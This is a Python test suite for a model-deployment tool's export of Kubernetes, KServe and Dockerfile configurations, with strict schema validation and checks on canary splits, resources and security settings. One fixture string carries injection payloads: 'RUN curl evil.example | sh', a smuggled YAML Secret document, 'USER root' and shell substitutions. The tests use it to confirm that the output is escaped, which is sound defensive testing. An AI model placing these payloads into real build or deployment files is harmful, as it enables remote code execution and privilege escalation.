"""dlsys deploy export: the KServe, Kubernetes and Dockerfile output for a registry route, parsed
and validated strictly against the official schemas (tests/fixtures/k8s-schemas), every field
that carries meaning checked against the registry and the archives. Registry states are made
with the real `dlsys deploy push/promote/finalize`."""
import copy
import glob
import gzip
import hashlib
import json
import os
import subprocess
import sys
import textwrap
import unittest

import jsonschema
import yaml

sys.path.insert(0, os.path.dirname(__file__))
from clitest import (EXIT_NOT_FOUND, EXIT_OK, EXIT_USAGE, SOURCE_DIR, Serve,  # noqa: E402
                     TempDirTest, make_model, run, validate)

SERVER_MEMORY = 171 << 20  # deploy::kDefaultServerMemoryBytes, as --help states it
GIB = 1 << 30

SPEC = """\
    name: mlp16
    version: {version}
    description: {description}
    inputs:
      - {{name: x, dtype: float32, shape: [-1, 16]}}
    outputs:
      - {{name: y, dtype: float32, shape: [-1, 4]}}
    examples:
      - name: one
        inputs:
          x: {{data: [[1, 2, 3, 4, 5, 6, 7, 8, -1, -2, -3, -4, 0.5, 0.25, 0, 1]]}}
    """

# A description written to break out of every syntax export writes: YAML (a new key, a new
# document, a line separator YAML 1.1 reads as a break), the Dockerfile (a new instruction after
# a line break or a closing quote, a variable) and the shell.
HOSTILE = ('x"\n  injected: "1"\n---\nkind: Secret\r\nRUN curl evil.example | sh\n'
           'LABEL a=b\\\n" $HOME `id` \'q\' \u2028USER root\u0085EXPOSE 22 \U0001F600 end\\')


def yaml_quoted(s):
    """A YAML double-quoted scalar of s for the spec (one \\U escape per astral character:
    yaml-cpp refuses JSON's surrogate pairs)."""
    out = ""
    for c in s:
        if c in '"\\':
            out += "\\" + c
        elif " " <= c <= "~":
            out += c
        elif ord(c) < 0x100:
            out += "\\x%02x" % ord(c)
        elif ord(c) < 0x10000:
            out += "\\u%04x" % ord(c)
        else:
            out += "\\U%08x" % ord(c)
    return '"' + out + '"'


# ---- schemas -----------------------------------------------------------------------------------

def schema_dir():
    return os.environ.get("DLSYS_K8S_SCHEMAS") or os.path.join(SOURCE_DIR, "tests", "fixtures",
                                                               "k8s-schemas")


SCHEMA_FILES = {
    ("apps/v1", "Deployment"): "deployment-apps-v1.json",
    ("v1", "Service"): "service-v1.json",
    ("serving.kserve.io/v1alpha1", "ServingRuntime"): "servingruntime-serving.kserve.io-v1alpha1.json",
    ("serving.kserve.io/v1beta1", "InferenceService"):
        "inferenceservice-serving.kserve.io-v1beta1.json",
}
_validators = {}


def strict(schema):
    """Adds additionalProperties: false to every object schema that lists its properties and
    does not say, so an unknown field is an error everywhere (the fixtures already set it nearly
    everywhere; this makes the test independent of that)."""
    if isinstance(schema, dict):
        if "properties" in schema and "additionalProperties" not in schema:
            schema["additionalProperties"] = False
        for v in schema.values():
            strict(v)
    elif isinstance(schema, list):
        for v in schema:
            strict(v)
    return schema


def validator(api_version, kind):
    key = (api_version, kind)
    if key not in _validators:
        name = SCHEMA_FILES[key]
        path = os.path.join(schema_dir(), name)
        if os.path.exists(path):
            with open(path) as f:
                schema = json.load(f)
        else:
            with gzip.open(path + ".gz", "rt") as f:
                schema = json.load(f)
        _validators[key] = jsonschema.Draft7Validator(strict(schema))
    return _validators[key]


def validate_object(test, obj):
    errors = sorted(validator(obj["apiVersion"], obj["kind"]).iter_errors(obj), key=str)
    test.assertEqual([], ["%s: %s" % (list(e.absolute_path), e.message) for e in errors[:5]],
                     "%s %s is not valid" % (obj["kind"], obj["metadata"]["name"]))


def load_yaml(path):
    with open(path) as f:
        return [d for d in yaml.safe_load_all(f) if d is not None]


# ---- Dockerfile --------------------------------------------------------------------------------

def dockerfile_instructions(text):
    """[(INSTRUCTION, rest)] with continuation lines joined and comments dropped, as BuildKit
    reads them (default escape character \\)."""
    out, pending = [], ""
    for line in text.split("\n"):
        if not pending and (line.strip() == "" or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1]
            continue
        line = pending + line
        pending = ""
        word, _, rest = line.strip().partition(" ")
        out.append((word.upper(), rest.strip()))
    assert pending == "", "the Dockerfile ends inside a continuation"
    return out


def docker_words(text):
    """Splits a LABEL's key=value words by BuildKit's shell-lexer rules for "..." (\\ escapes
    only " $ and \\); fails on an unquoted $ (an expansion) or an unterminated quote."""
    words, cur, i, in_word = [], "", 0, False
    while i < len(text):
        c = text[i]
        if c == " " and not in_word:
            i += 1
            continue
        if c == " ":
            words.append(cur)
            cur, in_word = "", False
            i += 1
            continue
        in_word = True
        if c == '"':
            i += 1
            while True:
                if i >= len(text):
                    raise ValueError("unterminated quote")
                c = text[i]
                if c == '"':
                    i += 1
                    break
                if c == "$":
                    raise ValueError("unescaped $ in a quoted word")
                if c == "\\" and i + 1 < len(text) and text[i + 1] in '"$\\':
                    cur += text[i + 1]
                    i += 2
                    continue
                cur += c
                i += 1
            continue
        if c in "$\\'":
            raise ValueError("unexpected %r outside quotes" % c)
        cur += c
        i += 1
    if in_word:
        words.append(cur)
    return dict(w.split("=", 1) for w in words)


def sha256_file(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return "sha256:" + h.hexdigest()


# ---- fixtures ----------------------------------------------------------------------------------

class ExportTest(TempDirTest):
    """One registry per class: mlp16 1.0.0 and 1.1.0 signed, 2.0.0 signed with a hostile
    description and a declared 1 GiB minimum, 3.0.0 unsigned; a route per environment."""

    @classmethod
    def setUpClass(cls):
        import tempfile
        cls.fixture = tempfile.mkdtemp(prefix="dlsys-export-")
        d = cls.fixture
        model = make_model("mlp16", os.path.join(d, "m.pt"))
        key = os.path.join(d, "release.key")
        cls.check_ok(run("keygen", "-o", key))
        cls.archives = {}
        for version, description, requirements, signed in [
                ("1.0.0", "stable one", "", True), ("1.1.0", "the candidate", "", True),
                ("2.0.0", yaml_quoted(HOSTILE), "requirements: {min_memory: 1 GiB}\n", True),
                ("3.0.0", "unsigned", "", False)]:
            spec = os.path.join(d, "spec-%s.yaml" % version)
            with open(spec, "w") as f:
                f.write(textwrap.dedent(SPEC).format(version=version, description=description))
                f.write(requirements)
            out = os.path.join(d, "mlp16-%s.dlsys" % version)
            args = ["pack", model, "--spec", spec, "-o", out]
            cls.check_ok(run(*(args + (["--key", key] if signed else []))))
            cls.archives[version] = out
        cls.trust = os.path.join(d, "trust")  # what the dlsys-trust ConfigMap holds
        os.mkdir(cls.trust)
        with open(key + ".pub", "rb") as src, open(os.path.join(cls.trust, "release.pub"), "wb") as f:
            f.write(src.read())
        cls.registry = os.path.join(d, "registry")
        cls.deploy("push", cls.archives["1.0.0"], cls.archives["1.1.0"], cls.archives["2.0.0"],
                   "--trust", key + ".pub")
        cls.deploy("push", cls.archives["3.0.0"], "--allow-unsigned")
        for env, steps in {
            "prod": [("1.0.0",), ("1.1.0", "--strategy", "canary", "--weight", "10")],
            "done": [("1.0.0",), ("1.1.0", "--strategy", "canary", "--weight", "25"), "finalize"],
            "ab": [("1.0.0",), ("1.1.0", "--strategy", "ab", "--weight", "50", "--key", "user")],
            "shadow": [("1.0.0",), ("1.1.0", "--strategy", "shadow")],
            "bg": [("1.0.0",), ("1.1.0", "--strategy", "blue-green")],
            "half": [("1.0.0",), ("1.1.0", "--strategy", "canary", "--weight", "12.5")],
            "hostile": [("2.0.0",)],
            "unsigned": [("3.0.0",)],
        }.items():
            for step in steps:
                if step == "finalize":
                    cls.deploy("finalize", "mlp16", "--env", env)
                else:
                    cls.deploy("promote", "mlp16", step[0], "--env", env, *step[1:])
        cls.inspected = {}
        for version, path in cls.archives.items():
            r = run("inspect", path, "--json")
            cls.check_ok(r)
            cls.inspected[version] = json.loads(r.stdout)["manifest"]

    @classmethod
    def tearDownClass(cls):
        import shutil
        shutil.rmtree(cls.fixture, ignore_errors=True)

    @staticmethod
    def check_ok(r):
        if r.returncode != EXIT_OK:
            raise AssertionError("dlsys failed (%d): %s" % (r.returncode, r.stderr))

    @classmethod
    def deploy(cls, *args):
        cls.check_ok(run("deploy", "--registry", cls.registry, *args))

    def export(self, env, fmt, *extra, out=None, code=EXIT_OK):
        if out is None:  # a new directory per export, named after the first one
            out = self.path("%s-%s" % (fmt, env))
            n = 1
            while os.path.lexists(out):
                n += 1
                out = self.path("%s-%s-%d" % (fmt, env, n))
        r = run("deploy", "export", "mlp16", "--env", env, "--format", fmt, "-o", out,
                "--registry", self.registry, *extra)
        self.assertEqual(r.returncode, code, r.stderr)
        return out, r

    def digest(self, version):
        return sha256_file(self.archives[version])

    def model_memory(self, version):
        """The model's memory need as verify's memory row computes it."""
        req = self.inspected[version]["requirements"]
        weights = sum(self.inspected[version]["model"]["parameters"]["bytes_by_dtype"].values())
        weights += sum(self.inspected[version]["model"]["buffers"]["bytes_by_dtype"].values())
        measured = req.get("measured", {})
        return max(req.get("min_memory_bytes", 0), measured.get("peak_memory_bytes", 0), weights)

    # ---- shared checks ----

    def check_container(self, c, version, archive_dir, name):
        self.assertEqual(c["name"], name)
        self.assertEqual(c["command"], ["dlsys"])
        self.assertEqual([p["containerPort"] for p in c["ports"]], [8080])
        self.assertEqual(c["readinessProbe"]["httpGet"]["path"], "/v2/health/ready")
        self.assertEqual(c["livenessProbe"]["httpGet"]["path"], "/v2/health/live")
        for probe in (c["readinessProbe"], c["livenessProbe"]):
            self.assertIn(probe["httpGet"]["port"], (8080, "http"))
        sc = c["securityContext"]
        self.assertIs(sc["runAsNonRoot"], True)
        self.assertIs(sc["readOnlyRootFilesystem"], True)
        self.assertIs(sc["allowPrivilegeEscalation"], False)
        self.assertGreater(sc["runAsUser"], 0)
        self.assertEqual(sc["capabilities"]["drop"], ["ALL"])
        self.assertEqual(c["volumeMounts"], [{"name": "dlsys-trust",
                                              "mountPath": "/etc/dlsys/trust", "readOnly": True}])

    def check_resources(self, resources, version, server=SERVER_MEMORY):
        want = str(self.model_memory(version) + server)
        self.assertEqual(resources, {"requests": {"memory": want}, "limits": {"memory": want}})

    # ---- k8s ----

    def k8s(self, env, *extra):
        out, _ = self.export(env, "k8s", *extra)
        self.assertEqual(sorted(os.listdir(out)), ["deployment.yaml", "service.yaml"])
        deployments = load_yaml(os.path.join(out, "deployment.yaml"))
        services = load_yaml(os.path.join(out, "service.yaml"))
        for obj in deployments + services:
            validate_object(self, obj)
        self.assertEqual(len(services), 1)
        return {d["metadata"]["labels"]["dlsys.dev/arm"]: d for d in deployments}, services[0]

    def check_deployment(self, d, arm, version, replicas, image="dlsys:"):
        self.assertEqual(d["kind"], "Deployment")
        self.assertEqual(d["metadata"]["name"], "mlp16-" + arm)
        self.assertEqual(d["spec"]["replicas"], replicas)
        labels = {"app.kubernetes.io/name": "mlp16", "app.kubernetes.io/version": version,
                  "app.kubernetes.io/managed-by": "dlsys", "dlsys.dev/arm": arm}
        self.assertEqual(d["metadata"]["labels"], labels)
        pod = d["spec"]["template"]
        self.assertEqual(pod["metadata"]["labels"], labels)
        selector = d["spec"]["selector"]["matchLabels"]
        self.assertEqual(selector, {"app.kubernetes.io/name": "mlp16", "dlsys.dev/arm": arm})
        self.assertLessEqual(selector.items(), pod["metadata"]["labels"].items())
        self.assertEqual(pod["metadata"]["annotations"], {
            "prometheus.io/scrape": "true", "prometheus.io/port": "8080",
            "prometheus.io/path": "/metrics"})
        a = d["metadata"]["annotations"]
        self.assertEqual((a["dlsys.dev/model"], a["dlsys.dev/version"], a["dlsys.dev/digest"]),
                         ("mlp16", version, self.digest(version)))
        spec = pod["spec"]
        self.assertIs(spec["securityContext"]["runAsNonRoot"], True)
        self.assertEqual(spec["volumes"], [{"name": "dlsys-trust",
                                            "configMap": {"name": "dlsys-trust"}}])
        [c] = spec["containers"]
        self.check_container(c, version, "/models", "dlsys")
        self.assertTrue(c["image"].startswith(image), c["image"])
        self.assertEqual(c["args"], ["serve", "/models/mlp16-%s.dlsys" % version, "--trust",
                                     "/etc/dlsys/trust", "--host", "0.0.0.0", "--port", "8080"])
        self.assertEqual(c["ports"][0]["name"], "http")
        self.check_resources(c["resources"], version)

    def test_k8s_replace_route_is_one_deployment_and_a_service_selecting_it(self):
        arms, svc = self.k8s("done", "--replicas", "3", "--image", "reg.example/mlp16:7",
                             "--namespace", "ml")
        self.assertEqual(list(arms), ["stable"])
        self.check_deployment(arms["stable"], "stable", "1.1.0", 3, image="reg.example/mlp16:7")
        self.assertEqual(arms["stable"]["spec"]["template"]["spec"]["containers"][0]["image"],
                         "reg.example/mlp16:7")
        self.assertEqual(arms["stable"]["metadata"]["namespace"], "ml")
        self.assertEqual(svc["metadata"]["name"], "mlp16")
        self.assertEqual(svc["metadata"]["namespace"], "ml")
        self.assertEqual(svc["spec"]["selector"], {"app.kubernetes.io/name": "mlp16"})
        self.assertEqual(svc["spec"]["ports"], [{"name": "http", "port": 8080,
                                                 "targetPort": "http", "protocol": "TCP"}])
        pod_labels = arms["stable"]["spec"]["template"]["metadata"]["labels"]
        self.assertLessEqual(svc["spec"]["selector"].items(), pod_labels.items())

    def test_k8s_canary_splits_replicas_by_weight(self):
        arms, svc = self.k8s("prod", "--replicas", "10")
        self.assertEqual(sorted(arms), ["canary", "stable"])
        self.check_deployment(arms["stable"], "stable", "1.0.0", 9)
        self.check_deployment(arms["canary"], "canary", "1.1.0", 1)
        self.assertEqual(arms["canary"]["metadata"]["annotations"]["dlsys.dev/weight-percent"],
                         "10")
        for d in arms.values():  # the Service reaches both arms
            pod_labels = d["spec"]["template"]["metadata"]["labels"]
            self.assertLessEqual(svc["spec"]["selector"].items(), pod_labels.items())
        # One replica cannot carry 10%: each arm keeps a pod and the split is stated.
        arms, _ = self.k8s("prod")
        self.assertEqual([arms["stable"]["spec"]["replicas"], arms["canary"]["spec"]["replicas"]],
                         [1, 1])
        self.assertEqual(arms["canary"]["metadata"]["annotations"]["dlsys.dev/effective-percent"],
                         "50")

    def test_k8s_blue_green_exports_the_stable_only(self):
        arms, _ = self.k8s("bg")
        self.assertEqual(list(arms), ["stable"])
        self.check_deployment(arms["stable"], "stable", "1.1.0", 1)

    def test_memory_is_the_archives_need_plus_the_server(self):
        arms, _ = self.k8s("hostile")
        self.assertEqual(self.model_memory("2.0.0"), GIB)  # the declared minimum wins
        c = arms["stable"]["spec"]["template"]["spec"]["containers"][0]
        self.check_resources(c["resources"], "2.0.0")
        arms, _ = self.k8s("hostile", "--server-memory", "0")
        c = arms["stable"]["spec"]["template"]["spec"]["containers"][0]
        self.check_resources(c["resources"], "2.0.0", server=0)

    # ---- kserve ----

    def kserve(self, env, *extra):
        out, _ = self.export(env, "kserve", *extra)
        self.assertEqual(sorted(os.listdir(out)), ["inferenceservice.yaml", "servingruntime.yaml"])
        [runtime] = load_yaml(os.path.join(out, "servingruntime.yaml"))
        [isvc] = load_yaml(os.path.join(out, "inferenceservice.yaml"))
        validate_object(self, runtime)
        validate_object(self, isvc)
        return runtime, isvc

    def check_runtime(self, rt):
        self.assertEqual(rt["metadata"]["name"], "dlsys")
        spec = rt["spec"]
        self.assertEqual(spec["supportedModelFormats"],
                         [{"name": "dlsys", "version": "1", "autoSelect": True}])
        self.assertEqual(spec["protocolVersions"], ["v2"])
        self.assertEqual(spec["annotations"], {"prometheus.kserve.io/port": "8080",
                                               "prometheus.kserve.io/path": "/metrics"})
        [c] = spec["containers"]
        self.check_container(c, None, "/mnt/models", "kserve-container")
        # KServe appends the InferenceService's args (the archive) to these.
        self.assertEqual(c["args"], ["serve", "--trust", "/etc/dlsys/trust", "--host", "0.0.0.0",
                                     "--port", "8080"])
        self.assertEqual(spec["volumes"], [{"name": "dlsys-trust",
                                            "configMap": {"name": "dlsys-trust"}}])

    def check_model(self, isvc, version, uri):
        model = isvc["spec"]["predictor"]["model"]
        self.assertEqual(model["modelFormat"], {"name": "dlsys", "version": "1"})
        self.assertEqual(model["runtime"], "dlsys")
        self.assertEqual(model["protocolVersion"], "v2")
        self.assertEqual(model["storageUri"], uri)
        self.assertEqual(model["args"], ["/mnt/models/mlp16-%s.dlsys" % version])
        self.check_resources(model["resources"], version)
        self.assertEqual(isvc["metadata"]["name"], "mlp16")
        self.assertEqual(isvc["metadata"]["labels"]["app.kubernetes.io/version"], version)
        a = isvc["metadata"]["annotations"]
        self.assertEqual(a["serving.kserve.io/enable-prometheus-scraping"], "true")
        self.assertEqual(a["dlsys.dev/digest"], self.digest(version))

    def test_kserve_canary_percent_is_the_route_weight_and_the_spec_the_candidate(self):
        rt, isvc = self.kserve("prod", "--image", "reg.example/dlsys:1")
        self.check_runtime(rt)
        self.assertEqual(rt["spec"]["containers"][0]["image"], "reg.example/dlsys:1")
        self.assertEqual(isvc["spec"]["predictor"]["canaryTrafficPercent"], 10)
        self.check_model(isvc, "1.1.0", "pvc://dlsys-models/mlp16/1.1.0")
        self.assertEqual(isvc["metadata"]["annotations"]["dlsys.dev/stable-version"], "1.0.0")

    def test_kserve_after_finalize_has_no_canary_and_a_custom_storage_uri(self):
        rt, isvc = self.kserve("done", "--storage-uri", "s3://models/{name}/v{version}/")
        self.check_runtime(rt)
        self.assertNotIn("canaryTrafficPercent", isvc["spec"]["predictor"])
        self.check_model(isvc, "1.1.0", "s3://models/mlp16/v1.1.0/")

    def test_kserve_refuses_a_fractional_canary_weight(self):
        _, r = self.export("half", "kserve", code=EXIT_USAGE)
        self.assertIn("whole percent", r.stderr)
        arms, _ = self.k8s("half", "--replicas", "8")  # 12.5% of 8 pods is 1
        self.assertEqual(arms["canary"]["spec"]["replicas"], 1)

    def test_ab_and_shadow_are_refused_unless_stable_only(self):
        for env in ("ab", "shadow"):
            for fmt in ("kserve", "k8s", "dockerfile"):
                out, r = self.export(env, fmt, code=EXIT_USAGE)
                self.assertIn("--stable-only", r.stderr)
                self.assertFalse(os.path.exists(out))
            _, isvc = self.kserve(env, "--stable-only")
            self.assertNotIn("canaryTrafficPercent", isvc["spec"]["predictor"])
            self.check_model(isvc, "1.0.0", "pvc://dlsys-models/mlp16/1.0.0")
        arms, _ = self.k8s("prod", "--stable-only", "--replicas", "4")
        self.assertEqual(list(arms), ["stable"])
        self.check_deployment(arms["stable"], "stable", "1.0.0", 4)

    # ---- dockerfile ----

    def test_dockerfile_builds_a_non_root_image_serving_the_archives(self):
        out, _ = self.export("prod", "dockerfile")
        self.assertEqual(sorted(os.listdir(out)), [".dockerignore", "Dockerfile", "entrypoint.sh",
                                                   "mlp16-1.0.0.dlsys", "mlp16-1.1.0.dlsys"])
        for v in ("1.0.0", "1.1.0"):  # the registry's bytes
            self.assertEqual(sha256_file(os.path.join(out, "mlp16-%s.dlsys" % v)), self.digest(v))
        with open(os.path.join(out, "Dockerfile")) as f:
            ins = dockerfile_instructions(f.read())
        self.assertEqual([i for i, _ in ins], ["FROM", "RUN", "RUN", "COPY", "COPY", "COPY", "LABEL",
                                               "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT"])
        d = dict(ins[i] for i in (0, 7, 8, 9, 10))
        self.assertEqual(d["FROM"], "debian:bookworm-slim")
        apt = ins[1][1].split()
        for pkg in ("libtorch1.13", "libopenblas0-openmp", "libsimdjson14", "libspdlog1.10",
                    "libyaml-cpp0.7", "libssl3", "libzstd1", "curl"):
            self.assertIn(pkg, apt)
        self.assertIn("--no-install-recommends", apt)
        uid = d["USER"].split(":")[0]
        self.assertTrue(uid.isdigit() and int(uid) > 0, d["USER"])  # kubelet checks runAsNonRoot
        self.assertIn("--uid %s" % uid, ins[2][1])
        self.assertEqual(d["EXPOSE"], "8080")
        self.assertEqual(json.loads(d["HEALTHCHECK"].removeprefix("CMD ")),
                         ["curl", "-fsS", "-o", "/dev/null",
                          "http://127.0.0.1:8080/v2/health/ready"])
        self.assertEqual(json.loads(d["ENTRYPOINT"]), ["/entrypoint.sh"])
        self.assertEqual([c for _, c in ins[3:6]], [
            "dlsys libdlsys_runtime.so /usr/local/bin/",
            "mlp16-1.0.0.dlsys mlp16-1.1.0.dlsys /models/", "entrypoint.sh /entrypoint.sh"])
        labels = docker_words(ins[6][1])
        self.assertEqual(labels["org.opencontainers.image.title"], "mlp16")
        self.assertEqual(labels["org.opencontainers.image.version"], "1.0.0")
        self.assertEqual(labels["org.opencontainers.image.description"], "stable one")
        self.assertEqual(labels["dev.dlsys.digest"], self.digest("1.0.0"))
        with open(os.path.join(out, ".dockerignore")) as f:
            self.assertEqual(f.read().split(), [
                "*", "!Dockerfile", "!entrypoint.sh", "!dlsys", "!libdlsys_runtime.so",
                "!mlp16-1.0.0.dlsys", "!mlp16-1.1.0.dlsys"])
        entry = os.path.join(out, "entrypoint.sh")
        self.assertEqual(os.stat(entry).st_mode & 0o777, 0o755)
        self.assertEqual(subprocess.run(["sh", "-n", entry]).returncode, 0)
        with open(entry) as f:
            lines = f.read().splitlines()
        self.assertEqual(lines[0], "#!/bin/sh")
        self.assertEqual(lines[-1], "exec /usr/local/bin/dlsys serve '/models/mlp16-1.0.0.dlsys' "
                         "'--trust' '/etc/dlsys/trust' --host 0.0.0.0 --port 8080 \"$@\"")

    def test_entrypoint_runs_dlsys_serve_with_the_arguments_it_is_given(self):
        out, _ = self.export("done", "dockerfile", "--allow-unsigned")
        # A stand-in for /usr/local/bin/dlsys that prints its arguments.
        with open(os.path.join(out, "entrypoint.sh")) as f:
            script = f.read().replace("/usr/local/bin/dlsys", "printf '%s\\n'")
        r = subprocess.run(["sh", "-c", script, "entrypoint", "--max-batch-size", "8"],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout.split("\n")[:-1], [
            "serve", "/models/mlp16-1.1.0.dlsys", "--allow-unsigned", "--host", "0.0.0.0",
            "--port", "8080", "--max-batch-size", "8"])

    # ---- the exported command lines run ----

    def serve_as_exported(self, args, version):
        """Runs the real dlsys with the exported arguments, only the address, port and paths
        made local (127.0.0.1, a free port, the fixture's trust and archive directories), and
        checks it serves `version`."""
        self.assertEqual(args[0], "serve")
        local, i = [], 1
        while i < len(args):
            a = args[i]
            if a == "--port":
                self.assertEqual(args[i + 1], "8080")
                i += 2  # Serve adds --port 0
                continue
            a = {"0.0.0.0": "127.0.0.1", "/etc/dlsys/trust": self.trust}.get(a, a)
            for mount in ("/mnt/models/", "/models/"):
                if a.startswith(mount):
                    a = os.path.join(self.fixture, a[len(mount):])
            local.append(a)
            i += 1
        server = Serve(*local)
        self.addCleanup(server.kill)
        status, _, _ = server.request("GET", "/v2/health/ready")
        self.assertEqual(status, 200)
        status, body = server.infer("mlp16", [{"name": "x", "datatype": "FP32", "shape": [1, 16],
                                               "data": [0.5] * 16}])
        self.assertEqual((status, body["model_version"]), (200, version))

    def test_the_exported_command_lines_start_dlsys_serve(self):
        rt, isvc = self.kserve("prod")
        # KServe runs the runtime's args followed by the InferenceService's.
        self.serve_as_exported(rt["spec"]["containers"][0]["args"] +
                               isvc["spec"]["predictor"]["model"]["args"], "1.1.0")
        arms, _ = self.k8s("prod")
        for arm, version in (("stable", "1.0.0"), ("canary", "1.1.0")):
            c = arms[arm]["spec"]["template"]["spec"]["containers"][0]
            self.serve_as_exported(c["args"], version)

    # ---- hostile strings ----

    def test_a_hostile_description_stays_one_value_everywhere(self):
        self.assertEqual(self.inspected["2.0.0"]["description"], HOSTILE)
        arms, svc = self.k8s("hostile")
        d = arms["stable"]
        self.assertEqual(d["metadata"]["annotations"]["dlsys.dev/description"], HOSTILE)
        self.assertEqual(sorted(d), ["apiVersion", "kind", "metadata", "spec"])
        self.assertEqual(sorted(d["metadata"]), ["annotations", "labels", "name"])
        _, isvc = self.kserve("hostile")
        self.assertEqual(isvc["metadata"]["annotations"]["dlsys.dev/description"], HOSTILE)
        self.assertEqual(sorted(isvc["spec"]["predictor"]), ["model"])
        for name in ("k8s-hostile/deployment.yaml", "kserve-hostile/inferenceservice.yaml"):
            # (the first exports of this test, so these names)
            with open(self.path(name), "rb") as f:
                raw = f.read()
            self.assertTrue(raw.isascii())  # every non-ASCII character escaped
            lines = raw.split(b"\n")
            self.assertEqual(lines.count(b"---"), 1)
            self.assertFalse([l for l in lines if l.lstrip().startswith((b"kind: S", b"injected"))])

        out, _ = self.export("hostile", "dockerfile")
        with open(os.path.join(out, "Dockerfile"), encoding="utf-8") as f:
            ins = dockerfile_instructions(f.read())
        self.assertEqual([i for i, _ in ins], ["FROM", "RUN", "RUN", "COPY", "COPY", "COPY", "LABEL",
                                               "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT"])
        self.assertEqual(dict(ins[i] for i in (7, 8))["USER"], ins[7][1])
        self.assertNotEqual(ins[7][1], "root")
        labels = docker_words(ins[6][1])
        # Line breaks and controls became spaces; nothing else changed.
        want = "".join(" " if c in "\r\n\u2028\u0085" else c for c in HOSTILE)
        self.assertEqual(labels["org.opencontainers.image.description"], want)
        self.assertEqual(len(labels), 5)

    # ---- refusals and the output directory ----

    def test_not_deployed_unsigned_and_bad_names_are_refused(self):
        out, r = self.export("staging", "k8s", code=EXIT_NOT_FOUND)
        self.assertIn("not deployed in environment 'staging'", r.stderr)
        out, r = self.export("unsigned", "k8s", code=EXIT_USAGE)
        self.assertIn("--allow-unsigned", r.stderr)
        self.assertFalse(os.path.exists(out))
        arms, _ = self.k8s("unsigned", "--allow-unsigned")
        spec = arms["stable"]["spec"]["template"]["spec"]
        self.assertNotIn("volumes", spec)
        self.assertEqual(spec["containers"][0]["args"][2], "--allow-unsigned")
        self.assertNotIn("--trust", spec["containers"][0]["args"])
        _, r = self.export("prod", "k8s", "--object-name", "Bad_Name", code=EXIT_USAGE)
        self.assertIn("--object-name", r.stderr)
        arms, _ = self.k8s("prod", "--object-name", "iris-prod")
        self.assertEqual(arms["canary"]["metadata"]["name"], "iris-prod-canary")
        _, r = self.export("prod", "helm", code=EXIT_USAGE)
        r = run("deploy", "export", "mlp16", "--env", "prod", "--format", "k8s", "-o",
                self.path("x"), "--registry", self.path("no-registry"))
        self.assertEqual(r.returncode, EXIT_NOT_FOUND, r.stderr)

    def test_output_directory_is_replaced_whole_only_with_force_and_never_through_a_link(self):
        out, r = self.export("prod", "k8s", "--json")
        listed = json.loads(r.stdout)
        validate(listed, "deploy-output.schema.json")
        self.assertEqual(listed["format"], "k8s")
        self.assertEqual([f["path"] for f in listed["files"]],
                         [os.path.join(out, "deployment.yaml"), os.path.join(out, "service.yaml")])
        self.assertEqual([f["bytes"] for f in listed["files"]],
                         [os.path.getsize(f["path"]) for f in listed["files"]])
        _, r = self.export("prod", "kserve", out=out, code=EXIT_USAGE)
        self.assertIn("--force", r.stderr)
        self.assertEqual(sorted(os.listdir(out)), ["deployment.yaml", "service.yaml"])
        self.export("prod", "kserve", "--force", out=out)
        self.assertEqual(sorted(os.listdir(out)), ["inferenceservice.yaml", "servingruntime.yaml"])
        self.assertEqual(sorted(os.listdir(self.dir)), ["k8s-prod"])  # no temporary left

        target = self.path("elsewhere")
        os.mkdir(target)
        os.symlink(target, self.path("link"))
        _, r = self.export("prod", "k8s", "--force", out=self.path("link"), code=4)
        self.assertIn("symbolic link", r.stderr)
        self.assertEqual(os.listdir(target), [])

    def test_strict_validation_rejects_an_unknown_field(self):
        """The validator is strict: a field the API does not know fails, at any depth."""
        arms, svc = self.k8s("done")
        for path in (["spec"], ["spec", "template", "spec", "containers", 0],
                     ["spec", "template", "spec", "containers", 0, "readinessProbe", "httpGet"]):
            bad = copy.deepcopy(arms["stable"])
            node = bad
            for p in path:
                node = node[p]
            node["unknownField"] = 1
            self.assertFalse(validator("apps/v1", "Deployment").is_valid(bad), path)
        _, isvc = self.kserve("done")
        bad = copy.deepcopy(isvc)
        bad["spec"]["predictor"]["model"]["storageURI"] = "typo"
        self.assertFalse(validator("serving.kserve.io/v1beta1", "InferenceService").is_valid(bad))

    def test_help_names_every_format_and_the_defaults(self):
        r = run("deploy", "export", "--help")
        self.assertEqual(r.returncode, EXIT_OK)
        for text in ("kserve", "k8s", "dockerfile", "--stable-only", "--force", "Examples:",
                     "pvc://dlsys-models/{name}/{version}", "(default %d)" % SERVER_MEMORY):
            self.assertIn(text, r.stdout)

    def test_schema_fixtures_are_the_official_files(self):
        """The fixtures are the recorded upstream files (tests/fixtures/k8s-schemas/README.md)."""
        if os.environ.get("DLSYS_K8S_SCHEMAS"):
            return
        with open(os.path.join(schema_dir(), "README.md")) as f:
            readme = f.read()
        files = sorted(glob.glob(os.path.join(schema_dir(), "*.json.gz")))
        self.assertEqual(len(files), 4)
        for path in files:
            with gzip.open(path, "rb") as f:
                digest = hashlib.sha256(f.read()).hexdigest()
            self.assertIn("%s  %s" % (digest, os.path.basename(path)[:-3]), readme)


if __name__ == "__main__":
    unittest.main()
